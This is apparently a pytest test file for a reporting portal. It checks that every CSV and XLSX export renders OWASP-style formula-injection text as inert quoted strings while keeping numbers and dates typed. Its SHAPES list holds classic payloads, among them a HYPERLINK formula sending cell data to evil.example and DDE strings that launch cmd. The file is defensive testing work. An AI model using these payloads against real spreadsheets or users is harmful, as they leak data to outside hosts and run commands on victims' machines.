"""No export runs a formula (OWASP CSV injection); numbers stay numbers, dates are date cells.

Every download route of the URL map is walked (found by name and by file extension, as in
test_downloads) with text that a spreadsheet would run planted in every user-supplied
field; a route this walk does not know fails it, so a new export needs its entry here.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date, datetime
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from dashboards.institution import InstitutionView
from dashboards.municipal import MunicipalDashboard
from dashboards.regional import RegionalDashboard
from portal import sheets
from portal.catalogue.models import Indicator
from portal.demo.roadmaps import demo_pdf
from portal.documents import operations as documents
from portal.documents.models import DocumentKind
from portal.extensions import db
from portal.mentoring import operations as mentoring
from portal.mentoring.models import ParticipantRole
from portal.reports import period_operations
from portal.reports.models import Report, ReportState, ReportValue
from portal.roadmaps import operations as roadmaps
from portal.roadmaps.models import EventExecution, ExecutionStatus
from tenants.models import OrganizationType, Role, Subordination
from tests.test_downloads import DOWNLOAD_NAME

# One payload per field, each a classic of its kind (DDE, HYPERLINK, a sign, @, a tab, a
# carriage return, leading spaces); the tag says which field it was planted in.
SHAPES = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"{tag}\")", "+1+cmd|' /C calc'!A0 {tag}",
          "-2+3+cmd|' /C calc'!A0 {tag}", "@SUM(1+1)*cmd|' /C calc'!A0 {tag}", "\t=1+1 {tag}",
          "\r=1+1 {tag}", "  =1+1 {tag}", "\uff1d1+1 {tag}"]
FIELDS = ["region", "municipality", "org_name", "org_short", "org2_name", "college_name",
          "label_ru", "label_en", "raw_value", "event_title", "event_responsible",
          "event_note", "event_result", "execution_note", "execution_order",
          "person_name", "person_position", "person_education"]
PLANTED = {field: SHAPES[i % len(SHAPES)].format(tag=f"TAG-{field}")
           for i, field in enumerate(FIELDS)}
TAG = re.compile(r"TAG-([a-z_0-9]+)")


def _put(org, period, state, **values):
    ids = {i.code: i.id for i in db.session.query(Indicator)}
    report = Report(organization=org, period=period, state=state, explanations={})
    db.session.add(report)
    db.session.flush()
    for code, value in values.items():
        number = Decimal(value) if isinstance(value, int) else None
        db.session.add(ReportValue(report_id=report.id, indicator_id=ids[code], raw=str(value),
                                   value=number))
    db.session.flush()
    return report


def _plant_catalogue():
    indicator = db.session.query(Indicator).filter_by(code="staff_total").one()
    indicator.label_ru, indicator.label_en = PLANTED["label_ru"], PLANTED["label_en"]


def _plant_roadmap(school, report):
    roadmap = roadmaps.create_roadmap(school, 2025, None, from_template=True)
    first, second = roadmap.events[0], roadmap.events[1]
    first.title, first.responsible = PLANTED["event_title"], PLANTED["event_responsible"]
    first.deadline_note, first.planned_result = PLANTED["event_note"], PLANTED["event_result"]
    second.due_on, second.due_is_month, second.deadline_note = date(2025, 10, 15), False, None
    second.starts_on = None
    db.session.add(EventExecution(
        organization_id=school.id, report_id=report.id, event_id=first.id,
        status=ExecutionStatus.DONE, note=PLANTED["execution_note"],
        evidence_order=PLANTED["execution_order"]))
    db.session.flush()
    return roadmap


@pytest.fixture
def planted(factory):
    """A region whose every user-supplied text is a formula; accepted reports in two quarters."""
    region = factory.region(PLANTED["region"])
    municipality = factory.municipality(region, PLANTED["municipality"])
    school = factory.organization(municipality, name=PLANTED["org_name"])
    school.short_name = PLANTED["org_short"]
    others = [factory.organization(municipality, name=PLANTED["org2_name"])]
    others += [factory.organization(municipality, name=f"Школа {n}-EXPORTS") for n in (3, 4)]
    college = factory.organization(municipality, name=PLANTED["college_name"],
                                   type=OrganizationType.COLLEGE,
                                   subordination=Subordination.REGIONAL)
    # Two more colleges the municipal coordinator does not see: a group of unseen
    # organizations large enough for the dashboards to show comparison values at all.
    colleges = [college, *(factory.organization(municipality, name=f"Колледж {n}-EXPORTS",
                                                type=OrganizationType.COLLEGE,
                                                subordination=Subordination.REGIONAL)
                           for n in (2, 3))]
    _plant_catalogue()
    q1 = period_operations.open_period(region, 2026, 1)
    q2 = period_operations.open_period(region, 2026, 2)
    for n, org in enumerate([school, *others, *colleges]):
        _put(org, q1, ReportState.ACCEPTED, staff_total=40 + n, mentees=10, mentors=4)
    report = _put(school, q2, ReportState.DRAFT, staff_total=50, mentors=PLANTED["raw_value"])
    for n, org in enumerate([*others, *colleges]):
        _put(org, q2, ReportState.ACCEPTED, staff_total=60 + n, mentees=12, mentors=5)
    roadmap = _plant_roadmap(school, report)
    documents.add_version(school, documents.Upload(
        DocumentKind.REGULATION, order_number=PLANTED["org_short"], order_date=date(2025, 9, 1),
        stream=io.BytesIO(demo_pdf("order")), filename="order.pdf"), None)
    mentoring.create_participant(school, mentoring.ParticipantData(
        full_name=PLANTED["person_name"], position=PLANTED["person_position"],
        education=PLANTED["person_education"], experience_years=12,
        role=ParticipantRole.MENTOR, consent_on=date(2025, 9, 1)))
    db.session.flush()
    ids = {"region_id": region.id, "municipality_id": municipality.id, "org_id": school.id,
           "period_id": q2.id, "roadmap_id": roadmap.id, "form_id": q2.form_id}
    users = {"municipal": factory.user(Role.MUNICIPAL, municipality),
             "regional": factory.user(Role.REGIONAL, region),
             "curator": factory.user(Role.CURATOR, school)}
    return ids, users


# Every generated download: who fetches it, the charts it offers (dashboards), and what it
# must hold besides text: "date" cells where dates are shown.
ROUTES = {
    "dashboards.regional_export": ("regional", RegionalDashboard.chart_keys, ()),
    "dashboards.municipal_export": ("municipal", MunicipalDashboard.chart_keys, ()),
    "dashboards.institution_export": ("municipal", InstitutionView.chart_keys, ()),
    "report_files.template": ("municipal", None, ()),
    "report_files.export": ("municipal", None, ()),
    "report_files.bulk_template": ("municipal", None, ()),
    "report_files.municipal_export": ("municipal", None, ()),
    "roadmaps.export": ("municipal", None, ("date",)),
    "roadmaps.print_xlsx": ("municipal", None, ("date",)),
    "roadmaps.presence_xlsx": ("municipal", None, ("date",)),
    "mentoring.register_export": ("curator", None, ("date",)),
    "catalogue.download": ("regional", None, ()),  # the form's definition file
}
# Stored files are sent as they were uploaded (checked by structure on upload, never a table
# the portal writes).
STORED = {"documents.download", "mentoring.consent_download"}
# Empty forms to fill in, holding no user-supplied text: checked for formulas only.
BLANK = {"mentoring.register_template": "curator"}


def _download_rules(app):
    return sorted((rule for rule in app.url_map.iter_rules()
                   if "GET" in rule.methods and not rule.endpoint.endswith("static")
                   and (DOWNLOAD_NAME.search(rule.endpoint)
                        or re.search(r"\.(xlsx|csv)$", rule.rule))),
                  key=lambda rule: rule.endpoint)


def _xlsx_cells(data: bytes) -> list:
    """Every cell of every sheet, after checking the XML holds no formula element at all."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >/]", archive.read(name)), name
    workbook = load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def check_xlsx(data: bytes) -> tuple[set[str], set[str]]:
    """The tags found and the kinds of typed cells ("number", "date"); fails on a formula."""
    tags, kinds = set(), set()
    for cell in _xlsx_cells(data):
        value = cell.value
        assert cell.data_type != "f", (cell.coordinate, value)
        if isinstance(value, str):
            if sheets.looks_like_formula(value):
                assert cell.quotePrefix, (cell.coordinate, value)
            tags.update(TAG.findall(value))
        elif isinstance(value, (datetime, date)):
            assert cell.is_date
            kinds.add("date")
        elif isinstance(value, (int, float)) and not isinstance(value, bool):
            kinds.add("number")
    return tags, kinds


def check_csv(data: bytes) -> tuple[set[str], set[str]]:
    text = data.decode("utf-8-sig")
    delimiter = ";" if text.split("\r\n", 1)[0].count(";") else ","
    tags, kinds = set(), set()
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
        for field in row:
            assert not sheets.looks_like_formula(field), field
            tags.update(TAG.findall(field))
            if re.fullmatch(r"-?\d+([.,]\d+)?", field):
                kinds.add("number")
    return tags, kinds


def _path(rule, ids) -> str:
    path = rule.rule
    for argument in rule.arguments:
        assert argument in ids, f"{rule.endpoint}: add an id for <{argument}> to the test"
        path = re.sub(rf"<(int:)?{argument}>", str(ids[argument]), path)
    return path


def _urls(rule, ids, charts):
    path = _path(rule, ids)
    if charts is None:
        return [(path, "xlsx")]
    query = f"period={ids['period_id']}&indicator=staff_total"
    return [(f"{path}?{query}&chart={key}&format={fmt}", fmt)
            for key in charts for fmt in ("csv", "xlsx")]


def test_every_export_route_writes_planted_formulas_as_inert_text(app, client, planted):
    ids, users = planted
    rules = [r for r in _download_rules(app) if r.endpoint not in STORED | set(BLANK)]
    unknown = [r.endpoint for r in rules if r.endpoint not in ROUTES]
    assert not unknown, f"new export routes: add them to ROUTES with planted data: {unknown}"
    assert {r.endpoint for r in rules} == set(ROUTES)
    seen: set[str] = set()
    for rule in rules:
        who, charts, wanted = ROUTES[rule.endpoint]
        client.login(users[who])
        found: set[str] = set()
        for url, fmt in _urls(rule, ids, charts):
            with client.get(url) as response:
                assert response.status_code == 200, (url, response.status_code)
                data = response.get_data()
            tags, kinds = (check_csv if fmt == "csv" else check_xlsx)(data)
            assert "number" in kinds, f"{url}: no number cell"
            assert set(wanted) <= kinds, (url, kinds)
            found |= tags
        assert found, f"{rule.endpoint}: no planted text reached its files"
        seen |= found
        client.post_form("/logout")
    # Not in any file: the region's name. The English label only in the form's definition,
    # which holds both languages (the rest of the walk is in Russian).
    assert seen == set(FIELDS) - {"region"}


def test_blank_templates_hold_no_formula(app, client, planted):
    ids, users = planted
    blank = [r for r in _download_rules(app) if r.endpoint in BLANK]
    assert {r.endpoint for r in blank} == set(BLANK)
    for rule in blank:
        client.login(users[BLANK[rule.endpoint]])
        with client.get(_path(rule, ids)) as response:
            assert response.status_code == 200, rule.endpoint
            assert check_xlsx(response.get_data()) == (set(), set())
        client.post_form("/logout")


def test_report_export_keeps_typed_text_exact_and_numbers_numeric(app, client, planted):
    ids, users = planted
    client.login(users["municipal"])
    data = client.get(f"/organizations/{ids['org_id']}/reports/{ids['period_id']}/export.xlsx")
    sheet = load_workbook(io.BytesIO(data.get_data())).worksheets[0]
    by_code = {row[0].value: row for row in sheet.iter_rows(min_row=6)}
    assert by_code["mentors"][4].value == PLANTED["raw_value"]  # as typed, marked as text
    assert by_code["mentors"][4].quotePrefix and by_code["mentors"][4].data_type == "s"
    assert by_code["staff_total"][4].value == 50 and by_code["staff_total"][4].data_type == "n"
    assert by_code["staff_total"][5].value == 40  # last quarter's value, a number


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@A1", "\t=1", "\r=1", " \n =1",
                                  "\u3000=1", "\uff1d1"])
def test_formula_text_is_neutralized(text):
    assert sheets.looks_like_formula(text)
    assert sheets.inert(text) == "'" + text
    written = sheets.csv_text([[text, 1]])
    assert next(csv.reader(io.StringIO(written, newline=""), delimiter=";")) == ["'" + text, "1"]


@pytest.mark.parametrize("text", ["Школа № 1", "1-я школа", "e-mail", "'=1", "", "12,5"])
def test_ordinary_text_is_left_alone(text):
    assert not sheets.looks_like_formula(text)
    assert sheets.inert(text) == text


def test_csv_numbers_and_dates_keep_their_types():
    text = sheets.csv_text([[-5, Decimal("-1.50"), 2.5, date(2025, 9, 15), None, "-5"]])
    assert text == "-5;-1,50;2,5;2025-09-15;;'-5\r\n"


def test_xlsx_writer_turns_formulas_into_marked_text_and_formats_dates():
    workbook = Workbook()
    workbook.active.append(["=SUM(A2:A3)", " -1+1", -7, date(2025, 9, 15),
                            datetime(2025, 9, 15, 10, 30), "Школа"])
    book = load_workbook(io.BytesIO(sheets.xlsx_bytes(workbook)))
    cells = list(book.active[1])
    assert [c.data_type for c in cells] == ["s", "s", "n", "d", "d", "s"]
    assert [c.value for c in cells[:3]] == ["=SUM(A2:A3)", " -1+1", -7]
    assert [c.quotePrefix for c in cells] == [True, True, False, False, False, False]
    assert cells[3].number_format == "DD.MM.YYYY"
    assert cells[4].number_format == "DD.MM.YYYY HH:MM"
